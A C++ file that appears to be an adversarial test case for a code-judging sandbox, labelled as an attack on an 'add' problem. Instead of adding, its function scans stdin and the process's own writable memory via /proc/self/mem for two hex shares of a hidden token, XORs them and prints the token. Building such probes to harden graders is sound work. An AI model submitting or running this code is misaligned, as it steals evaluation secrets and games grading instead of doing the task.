// problem: add
// attack: searches its input and its whole memory for shares of a token
// expect: early-exit | wrong | tampered | timeout
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <unistd.h>
static bool hexadecimal(const char *text) {
    for (int i = 0; i < 64; i++)
        if (!strchr("0123456789abcdef", text[i]) || !text[i]) return false;
    return text[64] == '\n';
}
static void attempt(const std::string &text) {
    for (size_t at = 0; at + 130 <= text.size(); at++) {
        const char *one = text.data() + at, *other = one + 65;
        if (!hexadecimal(one) || !hexadecimal(other)) continue;
        for (int i = 0; i < 64; i++) {
            int digit = (one[i] <= '9' ? one[i] - '0' : one[i] - 87) ^ (other[i] <= '9' ? other[i] - '0' : other[i] - 87);
            write(1, &"0123456789abcdef"[digit], 1);
        }
        _exit(0);
    }
}
int add(int a, int b) {
    char line[1000];
    ssize_t size = read(open("/proc/self/fd/0", O_RDONLY), line, sizeof line);
    if (size > 0) attempt(std::string(line, size));
    int memory = open("/proc/self/mem", O_RDONLY);
    FILE *maps = fopen("/proc/self/maps", "r");
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char rights[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, rights) != 3 || rights[1] != 'w') continue;
        std::string content(end - start, 0);
        if (pread(memory, &content[0], content.size(), start) == (ssize_t)content.size()) attempt(content);
    }
    return 0;
}
